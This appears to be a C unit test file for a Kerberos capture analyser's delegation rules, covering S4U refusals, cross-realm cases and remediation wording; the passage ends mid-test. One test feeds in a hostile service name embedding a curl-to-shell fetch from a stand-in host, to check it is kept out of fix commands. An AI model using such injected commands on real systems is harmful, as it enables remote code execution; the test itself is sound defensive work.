/* check_rules_deleg.c - the delegation rules on fact lists:
 * missing-forwarded-tgt, s4u-denied, cross-realm-s4u. */
#include <check.h>
#include <stdarg.h>
#include <stdlib.h>
#include <string.h>

#include "krb5.h"
#include "krb5_decrypt.h"
#include "rulefix.h"
#include "rules_deleg.h"
#include "smb.h"
#include "testutil.h"

#define CL "10.0.0.10:40000"
#define FE "10.0.0.30:41000"
#define FE_HTTP "10.0.0.30:80"
#define KDC "10.0.0.2:88"
#define KDC2 "10.0.0.40:88"

#define OPT_FORWARDABLE (0x80000000u >> 1)
#define OPT_FORWARDED (0x80000000u >> 2)
#define OPT_CNAME_IN_ADDL (0x80000000u >> 14)

/* f's cause is one its rule lists, and it concerns someone. */
static void check_finding(const struct kf_finding *f)
{
	ck_assert_ptr_nonnull(f->cause);
	ck_assert_msg(kf_rule_cause_listed(&kf_rule_find(f->rule)->info, f->cause), "%s: cause %s not listed",
		      f->rule, f->cause);
	unsigned n = 0;
	for (unsigned k = 0; k < KF_SUBJECT__COUNT; k++)
		n += f->subject.n[k];
	ck_assert_uint_gt(n, 0);
}

/* Finish r and run rule id alone: its one finding, at sev (0: any), checked. */
static const struct kf_finding *one_finding(struct kf_result *r, const char *id, int sev)
{
	fx_finish(r);
	fx_run(r, id);
	ck_assert_uint_eq(fx_count(r, id, sev), 1);
	const struct kf_finding *f = fx_find(r, id);
	check_finding(f);
	return f;
}

/* Member k of f's subject is exactly the strings given (sorted), NULL-ended. */
static void subject_is(const struct kf_finding *f, enum kf_subject_kind k, ...)
{
	va_list ap;
	va_start(ap, k);
	unsigned i = 0;
	for (const char *s = va_arg(ap, const char *); s; s = va_arg(ap, const char *), i++) {
		ck_assert_msg(i < f->subject.n[k], "%s: %s missing", kf_subject_kind_name(k), s);
		ck_assert_str_eq(f->subject.v[k][i], s);
	}
	va_end(ap);
	ck_assert_uint_eq(f->subject.n[k], i);
}

/* The message of type in frame, to set facts after a fixture built it. */
static struct kf_message *msg_at(struct kf_result *r, uint64_t frame, int type)
{
	struct kf_message *m = (struct kf_message *)kf_result_message_at(r, frame, type);
	ck_assert_ptr_nonnull(m);
	return m;
}

/* ---- S4U fixtures ------------------------------------------------------------ */

/* S4U2Self by the front end (frames 5/6) for alice. */
static void s4u_self(struct kf_result *r, const char *front, const char *realm)
{
	struct kf_message *m = fx_krb(r, 5, KF_KRB_TGS_REQ, FE, KDC);
	m->krb.sname = front;
	m->krb.realm = realm;
	m->krb.s4u_user = "alice@LAB.TEST";
	m->krb.has_kdc_options = true;
	m->krb.kdc_options = OPT_FORWARDABLE;
	m->krb.ticket = fx_ticket(r, "krbtgt/LAB.TEST", "LAB.TEST", 18, 1);
	m = fx_krb(r, 6, KF_KRB_TGS_REP, KDC, FE);
	m->krb.cname = "alice";
	m->krb.crealm = "LAB.TEST";
	m->krb.ticket = fx_ticket(r, front, realm, 18, 2);
	fx_link(r, 5, KF_KRB_TGS_REQ, 6, KF_KRB_TGS_REP);
}

/* S4U2Proxy request from src at frame f (to kdc). */
static struct kf_message *s4u_proxy_from(struct kf_result *r, uint64_t f, const char *src, const char *kdc,
					 const char *sname, const char *realm, const char *ev_sname,
					 const char *ev_realm, const char *tgt, const char *tgt_realm)
{
	struct kf_message *m = fx_krb(r, f, KF_KRB_TGS_REQ, src, kdc);
	m->krb.sname = sname;
	m->krb.realm = realm;
	m->krb.has_kdc_options = true;
	m->krb.kdc_options = OPT_FORWARDABLE | OPT_CNAME_IN_ADDL;
	m->krb.n_addl = 1;
	m->krb.addl = fx_ticket(r, ev_sname, ev_realm, 18, 2);
	m->krb.ticket = fx_ticket(r, tgt, tgt_realm, 18, 1);
	return m;
}

/* S4U2Proxy request from the front end at frame f (to kdc). */
static struct kf_message *s4u_proxy(struct kf_result *r, uint64_t f, const char *kdc, const char *sname,
				    const char *realm, const char *ev_sname, const char *ev_realm,
				    const char *tgt, const char *tgt_realm)
{
	return s4u_proxy_from(r, f, FE, kdc, sname, realm, ev_sname, ev_realm, tgt, tgt_realm);
}

static struct kf_message *krb_err(struct kf_result *r, uint64_t f, uint64_t req, const char *src,
				  const char *dst, int32_t code, const char *etext)
{
	struct kf_message *m = fx_krb(r, f, KF_KRB_ERROR, src, dst);
	m->krb.error_code = code;
	m->krb.e_text = etext;
	fx_link(r, req, KF_KRB_TGS_REQ, f, KF_KRB_ERROR);
	return m;
}

static struct kf_message *tgs_rep(struct kf_result *r, uint64_t f, uint64_t req, const char *src,
				  const char *dst, const char *cname, const char *crealm, const char *tsname,
				  const char *trealm)
{
	struct kf_message *m = fx_krb(r, f, KF_KRB_TGS_REP, src, dst);
	m->krb.cname = cname;
	m->krb.crealm = crealm;
	m->krb.ticket = fx_ticket(r, tsname, trealm, 18, 2);
	fx_link(r, req, KF_KRB_TGS_REQ, f, KF_KRB_TGS_REP);
	return m;
}

/* S4U2Self by front (frames 5/6), then its S4U2Proxy (frame 11, on the TGT
 * tgt@front_realm) to kdc for sname@realm, refused in frame 14 with code and
 * etext: the KRB-ERROR, to set more facts. */
static struct kf_message *self_then_refused(struct kf_result *r, const char *front, const char *front_realm,
					    const char *tgt, const char *kdc, const char *sname,
					    const char *realm, int32_t code, const char *etext)
{
	s4u_self(r, front, front_realm);
	s4u_proxy(r, 11, kdc, sname, realm, front, front_realm, tgt, front_realm);
	return krb_err(r, 14, 11, kdc, FE, code, etext);
}

/* ---- s4u-denied ---------------------------------------------------------------- */

START_TEST(t_s4u_proxy_denied)
{
	struct kf_result *r = fx_new();
	s4u_self(r, "HTTP/front.lab.test", "LAB.TEST");
	s4u_proxy(r, 11, KDC, "HTTP/db.lab.test", "LAB.TEST", "HTTP/front.lab.test", "LAB.TEST",
		  "krbtgt/LAB.TEST", "LAB.TEST");
	struct kf_message *e = krb_err(r, 14, 11, KDC, FE, 13, "UNSUPPORTED_S4U2PROXY_REQUEST");
	e->krb.cname = "HTTP/front.lab.test";
	e->krb.crealm = "LAB.TEST";
	const struct kf_finding *f = one_finding(r, "s4u-denied", KF_SEV_ERROR);
	/* MIT's UNSUPPORTED_S4U2PROXY_REQUEST, no grant by that KDC in the
	 * capture: DB2 (no rules at all) or an LDAP list that lacks the target */
	ck_assert_str_eq(f->cause, "no-delegation-rule");
	ck_assert_int_eq(f->confidence, KF_CONF_CERTAIN);
	ck_assert(fx_has_frame(f, 5) && fx_has_frame(f, 6) && fx_has_frame(f, 11) && fx_has_frame(f, 14));
	subject_is(f, KF_SUBJECT_CLIENT, "10.0.0.30", NULL);
	subject_is(f, KF_SUBJECT_USER, "alice@LAB.TEST", NULL);
	subject_is(f, KF_SUBJECT_SERVICE, "HTTP/db.lab.test@LAB.TEST", "HTTP/front.lab.test@LAB.TEST", NULL);
	subject_is(f, KF_SUBJECT_SERVER, NULL);
	subject_is(f, KF_SUBJECT_KDC, "10.0.0.2", NULL);
	/* wording: both set-ups and their fixes, with the capture's names */
	ck_assert(contains(f->explanation, "DB2"));
	ck_assert(contains(f->remediation, "LDAP database (db_library = kldap)"));
	ck_assert(contains(f->remediation,
			   "krbAllowedToDelegateTo: HTTP/db.lab.test@LAB.TEST on the LDAP entry of "
			   "HTTP/front.lab.test@LAB.TEST"));
	fx_free(r);
}
END_TEST

/* UNSUPPORTED_S4U2PROXY_REQUEST from a KDC that granted another S4U2Proxy in
 * the capture: it keeps rules (not DB2), so the target is not allowed. */
START_TEST(t_s4u_unsupported_after_grant)
{
	struct kf_result *r = fx_new();
	s4u_self(r, "HTTP/front.lab.test", "LAB.TEST");
	s4u_proxy(r, 7, KDC, "HTTP/back.lab.test", "LAB.TEST", "HTTP/front.lab.test", "LAB.TEST",
		  "krbtgt/LAB.TEST", "LAB.TEST");
	tgs_rep(r, 8, 7, KDC, FE, "alice", "LAB.TEST", "HTTP/back.lab.test", "LAB.TEST");
	s4u_proxy(r, 11, KDC, "HTTP/db.lab.test", "LAB.TEST", "HTTP/front.lab.test", "LAB.TEST",
		  "krbtgt/LAB.TEST", "LAB.TEST");
	krb_err(r, 14, 11, KDC, FE, 13, "UNSUPPORTED_S4U2PROXY_REQUEST");
	const struct kf_finding *f = one_finding(r, "s4u-denied", KF_SEV_ERROR);
	ck_assert_str_eq(f->cause, "target-not-allowed");
	ck_assert(fx_has_frame(f, 11) && fx_has_frame(f, 14) && !fx_has_frame(f, 7));
	ck_assert(contains(f->explanation, "granted another S4U2Proxy"));
	ck_assert(contains(f->remediation, "krbAllowedToDelegateTo: HTTP/db.lab.test@LAB.TEST"));
	ck_assert(!contains(f->remediation, "DB2"));
	fx_free(r);
}
END_TEST

/* Near miss: the grant came from another KDC (another address): it says
 * nothing of the refusing one's database. */
START_TEST(t_s4u_unsupported_grant_elsewhere)
{
	struct kf_result *r = fx_new();
	s4u_self(r, "HTTP/front.lab.test", "LAB.TEST");
	s4u_proxy(r, 7, KDC2, "HTTP/back.lab.test", "LAB.TEST", "HTTP/front.lab.test", "LAB.TEST",
		  "krbtgt/LAB.TEST", "LAB.TEST");
	tgs_rep(r, 8, 7, KDC2, FE, "alice", "LAB.TEST", "HTTP/back.lab.test", "LAB.TEST");
	s4u_proxy(r, 11, KDC, "HTTP/db.lab.test", "LAB.TEST", "HTTP/front.lab.test", "LAB.TEST",
		  "krbtgt/LAB.TEST", "LAB.TEST");
	krb_err(r, 14, 11, KDC, FE, 13, "UNSUPPORTED_S4U2PROXY_REQUEST");
	const struct kf_finding *f = one_finding(r, "s4u-denied", KF_SEV_ERROR);
	ck_assert_str_eq(f->cause, "no-delegation-rule");
	fx_free(r);
}
END_TEST

/* MIT's NOT_ALLOWED_TO_DELEGATE: a delegation rule refused. */
START_TEST(t_s4u_not_allowed_to_delegate)
{
	struct kf_result *r = fx_new();
	struct kf_message *e =
		self_then_refused(r, "HTTP/front.lab.test", "LAB.TEST", "krbtgt/LAB.TEST", KDC,
				  "HTTP/db.lab.test", "LAB.TEST", 13, "NOT_ALLOWED_TO_DELEGATE");
	e->krb.cname = "HTTP/front.lab.test";
	e->krb.crealm = "LAB.TEST";
	const struct kf_finding *f = one_finding(r, "s4u-denied", KF_SEV_ERROR);
	ck_assert_str_eq(f->cause, "target-not-allowed");
	ck_assert_int_eq(f->confidence, KF_CONF_CERTAIN);
	ck_assert(contains(f->remediation,
			   "krbAllowedToDelegateTo: HTTP/db.lab.test@LAB.TEST on the LDAP entry of "
			   "HTTP/front.lab.test@LAB.TEST"));
	ck_assert(!contains(f->explanation, "granted another S4U2Proxy"));
	fx_free(r);
}
END_TEST

/* MIT's NO PREAUTH on S4U2Proxy: the target requires pre-authentication and
 * the front end's TGT has none. */
START_TEST(t_s4u_target_requires_preauth)
{
	struct kf_result *r = fx_new();
	struct kf_message *e = self_then_refused(r, "HTTP/front.lab.test", "LAB.TEST", "krbtgt/LAB.TEST", KDC,
						 "HTTP/pa.lab.test", "LAB.TEST", 60, "NO PREAUTH");
	e->krb.cname = "HTTP/front.lab.test";
	e->krb.crealm = "LAB.TEST";
	const struct kf_finding *f = one_finding(r, "s4u-denied", KF_SEV_ERROR);
	ck_assert_str_eq(f->cause, "target-requires-preauth");
	ck_assert_int_eq(f->confidence, KF_CONF_CERTAIN);
	ck_assert(fx_has_frame(f, 5) && fx_has_frame(f, 6) && fx_has_frame(f, 11) && fx_has_frame(f, 14));
	ck_assert(contains(f->explanation, "requires pre-authentication"));
	ck_assert(contains(f->remediation, "modprinc +requires_preauth HTTP/front.lab.test@LAB.TEST"));
	ck_assert(contains(f->remediation, "HTTP/pa.lab.test@LAB.TEST"));
	fx_free(r);
}
END_TEST

/* NO PREAUTH on an S4U2Self: the front end's own principal requires
 * pre-authentication and its TGT predates that: a new login is the fix. */
START_TEST(t_s4u_self_no_preauth)
{
	struct kf_result *r = fx_new();
	s4u_self(r, "HTTP/front.lab.test", "LAB.TEST");
	struct kf_message *rep6 = msg_at(r, 6, KF_KRB_TGS_REP);
	rep6->type = KF_KRB_ERROR; /* the S4U2Self refused instead */
	rep6->krb.error_code = 60;
	rep6->krb.e_text = "NO PREAUTH";
	rep6->krb.cname = "HTTP/front.lab.test";
	rep6->krb.crealm = "LAB.TEST";
	const struct kf_finding *f = one_finding(r, "s4u-denied", KF_SEV_ERROR);
	ck_assert_str_eq(f->cause, "target-requires-preauth");
	ck_assert(contains(f->summary, "S4U2Self by HTTP/front.lab.test@LAB.TEST"));
	ck_assert(contains(f->remediation, "log in again (kinit -k as HTTP/front.lab.test@LAB.TEST)"));
	ck_assert(!contains(f->remediation, "modprinc +requires_preauth"));
	fx_free(r);
}
END_TEST

/* A hostile target name is not put into the fix's commands. */
START_TEST(t_s4u_fix_hostile_name)
{
	struct kf_result *r = fx_new();
	const char *evil = "HTTP/web$(curl${IFS}-s${IFS}evil.example|sh).lab.test";
	struct kf_message *e = self_then_refused(r, "HTTP/front.lab.test", "LAB.TEST", "krbtgt/LAB.TEST", KDC,
						 evil, "LAB.TEST", 13, "UNSUPPORTED_S4U2PROXY_REQUEST");
	e->krb.cname = "HTTP/front.lab.test";
	e->krb.crealm = "LAB.TEST";
	const struct kf_finding *f = one_finding(r, "s4u-denied", KF_SEV_ERROR);
	ck_assert(contains(f->remediation, "krbAllowedToDelegateTo: <name> on the LDAP entry of "
					   "HTTP/front.lab.test@LAB.TEST"));
	ck_assert(contains(f->remediation, "Note: the name"));
	ck_assert(!contains(f->remediation, "krbAllowedToDelegateTo: HTTP/web$("));
	fx_free(r);
}
END_TEST

/* Two service accounts of one host, both refused: two findings, each
 * naming its own account (MIT names it in the error's cname). */
START_TEST(t_s4u_two_accounts_one_host)
{
	struct kf_result *r = fx_new();
	const char *acct[2] = { "HTTP/svc-a.lab.test", "HTTP/svc-b.lab.test" };
	for (int i = 0; i < 2; i++) {
		uint64_t f0 = 11 + 10 * (uint64_t)i;
		s4u_proxy(r, f0, KDC, "HTTP/db.lab.test", "LAB.TEST", acct[i], "LAB.TEST", "krbtgt/LAB.TEST",
			  "LAB.TEST");
		struct kf_message *e = krb_err(r, f0 + 3, f0, KDC, FE, 13, "UNSUPPORTED_S4U2PROXY_REQUEST");
		e->krb.cname = acct[i];
		e->krb.crealm = "LAB.TEST";
	}
	fx_finish(r);
	fx_run(r, "s4u-denied");
	ck_assert_uint_eq(fx_count(r, "s4u-denied", KF_SEV_ERROR), 2);
	for (size_t i = 0; i < r->n_findings; i++) {
		const struct kf_finding *f = &r->findings[i];
		check_finding(f);
		ck_assert(contains(f->summary, acct[i]) && !contains(f->summary, acct[1 - i]));
		ck_assert(fx_has_frame(f, 11 + 10 * i) && !fx_has_frame(f, 21 - 10 * i));
		subject_is(f, KF_SUBJECT_CLIENT, "10.0.0.30", NULL);
		ck_assert(
			fx_subject_has(f, KF_SUBJECT_SERVICE,
				       i ? "HTTP/svc-b.lab.test@LAB.TEST" : "HTTP/svc-a.lab.test@LAB.TEST"));
		ck_assert(!contains(f->summary, "(repeated)"));
	}
	fx_free(r);
}
END_TEST

/* Without a cname in the error (Windows, Samba) the account is the evidence
 * ticket's service; one account from two hosts is one finding naming both. */
START_TEST(t_s4u_one_account_two_hosts)
{
	struct kf_result *r = fx_new();
	s4u_proxy(r, 11, KDC, "cifs/files.ad.lab.test", "AD.LAB.TEST", "websvc", "AD.LAB.TEST",
		  "krbtgt/AD.LAB.TEST", "AD.LAB.TEST");
	krb_err(r, 12, 11, KDC, FE, 13, NULL);
	s4u_proxy_from(r, 13, "10.0.0.31:41000", KDC, "cifs/files.ad.lab.test", "AD.LAB.TEST", "websvc",
		       "AD.LAB.TEST", "krbtgt/AD.LAB.TEST", "AD.LAB.TEST");
	krb_err(r, 14, 13, KDC, "10.0.0.31:41000", 13, NULL);
	/* another account on the first host: a finding of its own */
	s4u_proxy(r, 15, KDC, "cifs/files.ad.lab.test", "AD.LAB.TEST", "appsvc", "AD.LAB.TEST",
		  "krbtgt/AD.LAB.TEST", "AD.LAB.TEST");
	krb_err(r, 16, 15, KDC, FE, 13, NULL);
	fx_finish(r);
	fx_run(r, "s4u-denied");
	ck_assert_uint_eq(fx_count(r, "s4u-denied", KF_SEV_ERROR), 2);
	const struct kf_finding *f = &r->findings[0];
	check_finding(f);
	ck_assert(contains(f->summary, "websvc (10.0.0.30, 10.0.0.31)"));
	ck_assert(contains(f->summary, "(repeated)"));
	ck_assert(fx_has_frame(f, 11) && fx_has_frame(f, 14) && !fx_has_frame(f, 15));
	subject_is(f, KF_SUBJECT_CLIENT, "10.0.0.30", "10.0.0.31", NULL);
	f = &r->findings[1];
	ck_assert(contains(f->summary, "appsvc (10.0.0.30)"));
	ck_assert(fx_has_frame(f, 15) && !fx_has_frame(f, 11));
	fx_free(r);
}
END_TEST

START_TEST(t_s4u_evidence_not_forwardable)
{
	struct kf_result *r = fx_new();
	s4u_self(r, "HTTP/front.lab.test", "LAB.TEST");
	s4u_proxy(r, 11, KDC, "HTTP/back.lab.test", "LAB.TEST", "HTTP/front.lab.test", "LAB.TEST",
		  "krbtgt/LAB.TEST", "LAB.TEST");
	krb_err(r, 14, 11, KDC, FE, 13, "EVIDENCE_TKT_NOT_FORWARDABLE");
	const struct kf_finding *f = one_finding(r, "s4u-denied", 0);
	ck_assert_str_eq(f->cause, "evidence-not-forwardable");
	ck_assert_int_eq(f->severity, KF_SEV_ERROR);
	ck_assert_int_eq(f->confidence, KF_CONF_CERTAIN);
	ck_assert(fx_has_frame(f, 5) && fx_has_frame(f, 6) && fx_has_frame(f, 11) && fx_has_frame(f, 14));
	subject_is(f, KF_SUBJECT_USER, "alice@LAB.TEST", NULL);
	fx_free(r);
}
END_TEST

/* Samba / Windows: bare BADOPTION after S4U2Self: both causes named. */
START_TEST(t_s4u_bare_badoption)
{
	struct kf_result *r = fx_new();
	s4u_self(r, "websvc", "AD.LAB.TEST");
	s4u_proxy(r, 11, KDC, "cifs/files.ad.lab.test", "AD.LAB.TEST", "websvc", "AD.LAB.TEST",
		  "krbtgt/AD.LAB.TEST", "AD.LAB.TEST");
	krb_err(r, 14, 11, KDC, FE, 13, NULL);
	const struct kf_finding *f = one_finding(r, "s4u-denied", KF_SEV_ERROR);
	ck_assert_str_eq(f->cause, "target-not-allowed-or-no-protocol-transition");
	ck_assert_int_eq(f->confidence, KF_CONF_CERTAIN);
	ck_assert(fx_has_frame(f, 5) && fx_has_frame(f, 6) && fx_has_frame(f, 11) && fx_has_frame(f, 14));
	subject_is(f, KF_SUBJECT_USER, "alice@LAB.TEST", NULL);
	subject_is(f, KF_SUBJECT_SERVICE, "cifs/files.ad.lab.test@AD.LAB.TEST", "websvc@AD.LAB.TEST", NULL);
	/* wording: the capture cannot tell which, so both settings to check are named */
	ck_assert(contains(f->explanation, "msDS-AllowedToDelegateTo"));
	ck_assert(contains(f->explanation, "any authentication protocol"));
	fx_free(r);
}
END_TEST

START_TEST(t_s4u_allowed)
{
	struct kf_result *r = fx_new();
	s4u_self(r, "HTTP/front.lab.test", "LAB.TEST");
	s4u_proxy(r, 11, KDC, "HTTP/back.lab.test", "LAB.TEST", "HTTP/front.lab.test", "LAB.TEST",
		  "krbtgt/LAB.TEST", "LAB.TEST");
	tgs_rep(r, 14, 11, KDC, FE, "alice", "LAB.TEST", "HTTP/back.lab.test", "LAB.TEST");
	fx_finish(r);
	fx_run_all(r);
	ck_assert_uint_eq(fx_count(r, NULL, 0), 0);
	fx_free(r);
}
END_TEST

START_TEST(t_s4u_self_denied)
{
	struct kf_result *r = fx_new();
	struct kf_message *m = fx_krb(r, 5, KF_KRB_TGS_REQ, FE, KDC);
	m->krb.sname = "HTTP/front.lab.test";
	m->krb.realm = "LAB.TEST";
	m->krb.s4u_user = "bob@LAB.TEST";
	krb_err(r, 6, 5, KDC, FE, 13, NULL);
	const struct kf_finding *f = one_finding(r, "s4u-denied", KF_SEV_ERROR);
	ck_assert_str_eq(f->cause, "s4u2self-refused");
	ck_assert_int_eq(f->confidence, KF_CONF_CERTAIN);
	ck_assert(fx_has_frame(f, 5) && fx_has_frame(f, 6));
	subject_is(f, KF_SUBJECT_CLIENT, "10.0.0.30", NULL);
	subject_is(f, KF_SUBJECT_USER, "bob@LAB.TEST", NULL);
	subject_is(f, KF_SUBJECT_SERVICE, "HTTP/front.lab.test@LAB.TEST", NULL);
	subject_is(f, KF_SUBJECT_KDC, "10.0.0.2", NULL);
	fx_free(r);
}
END_TEST

/* Refused, then the same request succeeds at once: benign. */
START_TEST(t_s4u_recovered)
{
	struct kf_result *r = fx_new();
	s4u_self(r, "HTTP/front.lab.test", "LAB.TEST");
	s4u_proxy(r, 11, KDC, "HTTP/back.lab.test", "LAB.TEST", "HTTP/front.lab.test", "LAB.TEST",
		  "krbtgt/LAB.TEST", "LAB.TEST");
	krb_err(r, 14, 11, KDC, FE, 13, NULL);
	s4u_proxy(r, 20, KDC, "HTTP/back.lab.test", "LAB.TEST", "HTTP/front.lab.test", "LAB.TEST",
		  "krbtgt/LAB.TEST", "LAB.TEST");
	tgs_rep(r, 21, 20, KDC, FE, "alice", "LAB.TEST", "HTTP/back.lab.test", "LAB.TEST");
	fx_finish(r);
	fx_run(r, "s4u-denied");
	ck_assert_uint_eq(fx_count(r, "s4u-denied", 0), 0);
	fx_free(r);
}
END_TEST

/* The same refusal twice: one finding with both exchanges. */
START_TEST(t_s4u_repeated)
{
	struct kf_result *r = fx_new();
	s4u_proxy(r, 11, KDC, "HTTP/back.lab.test", "LAB.TEST", "HTTP/front.lab.test", "LAB.TEST",
		  "krbtgt/LAB.TEST", "LAB.TEST");
	krb_err(r, 12, 11, KDC, FE, 13, NULL);
	s4u_proxy(r, 13, KDC, "HTTP/back.lab.test", "LAB.TEST", "HTTP/front.lab.test", "LAB.TEST",
		  "krbtgt/LAB.TEST", "LAB.TEST");
	krb_err(r, 14, 13, KDC, FE, 13, NULL);
	const struct kf_finding *f = one_finding(r, "s4u-denied", 0);
	/* a bare BADOPTION, and no S4U2Self in the capture */
	ck_assert_str_eq(f->cause, "target-not-allowed-or-evidence-not-forwardable");
	ck_assert_int_eq(f->severity, KF_SEV_ERROR);
	ck_assert_int_eq(f->confidence, KF_CONF_CERTAIN);
	ck_assert_uint_eq(f->n_frames, 4);
	subject_is(f, KF_SUBJECT_USER, NULL);
	subject_is(f, KF_SUBJECT_SERVICE, "HTTP/back.lab.test@LAB.TEST", "HTTP/front.lab.test@LAB.TEST",
		   NULL);
	fx_free(r);
}
END_TEST

/* An S4U2Proxy refused with another error than BADOPTION, no e-text. */
START_TEST(t_s4u_proxy_other_error)
{
	struct kf_result *r = fx_new();
	s4u_self(r, "HTTP/front.lab.test", "LAB.TEST");
	s4u_proxy(r, 11, KDC, "HTTP/back.lab.test", "LAB.TEST", "HTTP/front.lab.test", "LAB.TEST",
		  "krbtgt/LAB.TEST", "LAB.TEST");
	krb_err(r, 14, 11, KDC, FE, 12, NULL); /* KDC_ERR_POLICY */
	const struct kf_finding *f = one_finding(r, "s4u-denied", KF_SEV_ERROR);
	ck_assert_str_eq(f->cause, "s4u2proxy-refused");
	ck_assert_int_eq(f->confidence, KF_CONF_CERTAIN);
	ck_assert(fx_has_frame(f, 5) && fx_has_frame(f, 6) && fx_has_frame(f, 11) && fx_has_frame(f, 14));
	subject_is(f, KF_SUBJECT_USER, "alice@LAB.TEST", NULL);
	fx_free(r);
}
END_TEST

/* Windows' S4U2Proxy to its own machine account (WinRM, WMI): info only. */
START_TEST(t_s4u_self_probe_is_info)
{
	struct kf_result *r = fx_new();
	s4u_proxy(r, 83, KDC, "pc1$@CORP.TEST", "CORP.TEST", "pc1$@CORP.TEST", "CORP.TEST",
		  "krbtgt/CORP.TEST", "CORP.TEST");
	struct kf_message *e = krb_err(r, 85, 83, KDC, FE, 13, NULL);
	e->krb.has_ntstatus = true;
	e->krb.ntstatus = 0xC00000BBu;
	fx_finish(r);
	fx_run_all(r);
	ck_assert_uint_eq(fx_count(r, NULL, KF_SEV_ERROR), 0);
	ck_assert_uint_eq(fx_count(r, "s4u-denied", KF_SEV_INFO), 1);
	const struct kf_finding *f = fx_find(r, "s4u-denied");
	check_finding(f);
	ck_assert_str_eq(f->cause, "not-trusted-for-delegation");
	ck_assert_int_eq(f->confidence, KF_CONF_CERTAIN);
	ck_assert(fx_has_frame(f, 83) && fx_has_frame(f, 85));
	subject_is(f, KF_SUBJECT_CLIENT, "10.0.0.30", NULL);
	subject_is(f, KF_SUBJECT_USER, NULL);
	subject_is(f, KF_SUBJECT_SERVICE, "pc1$@CORP.TEST", NULL);
	/* wording: an enterprise name carries its realm; the text must not add it again */
	ck_assert(!contains(f->summary, "@CORP.TEST@CORP.TEST"));
	fx_free(r);
}
END_TEST

/* ---- cross-realm-s4u ----------------------------------------------------------- */

/* Windows: target in another realm, BADOPTION with 0xC000040B; s4u-denied stays quiet. */
START_TEST(t_xr_ntstatus)
{
	struct kf_result *r = fx_new();
	s4u_proxy(r, 4, KDC, "MSSQLSvc/sql.res.lab.test:1433", "RES.LAB.TEST", "websvc", "AD.LAB.TEST",
		  "krbtgt/AD.LAB.TEST", "AD.LAB.TEST");
	struct kf_message *e = krb_err(r, 6, 4, KDC, FE, 13, NULL);
	e->krb.has_ntstatus = true;
	e->krb.ntstatus = 0xC000040Bu;
	fx_finish(r);
	fx_run_all(r);
	ck_assert_uint_eq(fx_count(r, "cross-realm-s4u", KF_SEV_ERROR), 1);
	ck_assert_uint_eq(fx_count(r, "s4u-denied", 0), 0);
	const struct kf_finding *f = fx_find(r, "cross-realm-s4u");
	check_finding(f);
	ck_assert_str_eq(f->cause, "classic-delegation-across-realms");
	ck_assert_int_eq(f->severity, KF_SEV_ERROR);
	ck_assert_int_eq(f->confidence, KF_CONF_CERTAIN);
	ck_assert(fx_has_frame(f, 4) && fx_has_frame(f, 6));
	subject_is(f, KF_SUBJECT_CLIENT, "10.0.0.30", NULL);
	subject_is(f, KF_SUBJECT_USER, NULL);
	subject_is(f, KF_SUBJECT_SERVICE, "MSSQLSvc/sql.res.lab.test:1433@RES.LAB.TEST", "websvc@AD.LAB.TEST",
		   NULL);
	subject_is(f, KF_SUBJECT_KDC, "10.0.0.2", NULL);
	/* wording: the remediation names the cmdlet parameter to set */
	ck_assert(contains(f->remediation, "PrincipalsAllowedToDelegateToAccount"));
	fx_free(r);
}
END_TEST

/* Same realm names but the DC's NTSTATUS says cross-realm: still this rule. */
START_TEST(t_xr_ntstatus_only)
{
	struct kf_result *r = fx_new();
	s4u_proxy(r, 4, KDC, "MSSQLSvc/sql:1433", "AD.LAB.TEST", "websvc", "AD.LAB.TEST",
		  "krbtgt/AD.LAB.TEST", "AD.LAB.TEST");
	struct kf_message *e = krb_err(r, 6, 4, KDC, FE, 13, NULL);
	e->krb.has_ntstatus = true;
	e->krb.ntstatus = 0xC000040Bu;
	fx_finish(r);
	fx_run_all(r);
	ck_assert_uint_eq(fx_count(r, "cross-realm-s4u", KF_SEV_ERROR), 1);
	ck_assert_uint_eq(fx_count(r, "s4u-denied", 0), 0);
	const struct kf_finding *f = fx_find(r, "cross-realm-s4u");
	check_finding(f);
	ck_assert_str_eq(f->cause, "classic-delegation-across-realms");
	subject_is(f, KF_SUBJECT_SERVICE, "MSSQLSvc/sql:1433@AD.LAB.TEST", "websvc@AD.LAB.TEST", NULL);
	fx_free(r);
}
END_TEST

/* MIT's form: referral for the target, then S4U2Proxy to the other realm's KDC refused. */
static void mit_xrealm(struct kf_result *r, bool refused)
{
	s4u_self(r, "HTTP/front.s4u.test", "S4U.TEST");
	s4u_proxy(r, 11, KDC, "HTTP/app.other.test", "S4U.TEST", "HTTP/front.s4u.test", "S4U.TEST",
		  "krbtgt/S4U.TEST", "S4U.TEST");
	tgs_rep(r, 14, 11, KDC, FE, "HTTP/front.s4u.test", "S4U.TEST", "krbtgt/OTHER.TEST", "S4U.TEST");
	if (refused) {
		s4u_proxy(r, 27, KDC2, "HTTP/app.other.test", "OTHER.TEST", "krbtgt/OTHER.TEST", "S4U.TEST",
			  "krbtgt/OTHER.TEST", "S4U.TEST");
		krb_err(r, 30, 27, KDC2, FE, 13, "UNSUPPORTED_S4U2PROXY_REQUEST");
	}
}

START_TEST(t_xr_referral_then_refused)
{
	struct kf_result *r = fx_new();
	mit_xrealm(r, true);
	fx_finish(r);
	fx_run_all(r);
	ck_assert_uint_eq(fx_count(r, "cross-realm-s4u", KF_SEV_ERROR), 1);
	ck_assert_uint_eq(fx_count(r, "s4u-denied", 0), 0);
	const struct kf_finding *f = fx_find(r, "cross-realm-s4u");
	check_finding(f);
	ck_assert_str_eq(f->cause, "cross-realm-refused");
	ck_assert_int_eq(f->confidence, KF_CONF_CERTAIN);
	ck_assert(fx_has_frame(f, 11) && fx_has_frame(f, 14) && fx_has_frame(f, 27) && fx_has_frame(f, 30));
	ck_assert(fx_has_frame(f, 5) && fx_has_frame(f, 6));
	subject_is(f, KF_SUBJECT_CLIENT, "10.0.0.30", NULL);
	subject_is(f, KF_SUBJECT_USER, "alice@LAB.TEST", NULL);
	subject_is(f, KF_SUBJECT_SERVICE, "HTTP/app.other.test@OTHER.TEST", "HTTP/front.s4u.test@S4U.TEST",
		   NULL);
	subject_is(f, KF_SUBJECT_KDC, "10.0.0.2", "10.0.0.40", NULL);
	fx_free(r);
}
END_TEST

/* Referral, then nothing: the chain just stops (likely). */
START_TEST(t_xr_referral_only_is_likely)
{
	struct kf_result *r = fx_new();
	mit_xrealm(r, false);
	const struct kf_finding *f = one_finding(r, "cross-realm-s4u", KF_SEV_ERROR);
	ck_assert_str_eq(f->cause, "undetermined");
	ck_assert_int_eq(f->confidence, KF_CONF_LIKELY);
	ck_assert(fx_has_frame(f, 11) && fx_has_frame(f, 14));
	/* wording: says why it is only likely (no refusal in the capture) */
	ck_assert(contains(f->explanation,
			   "constrained delegation does. (Likely: no refusal is in the capture"));
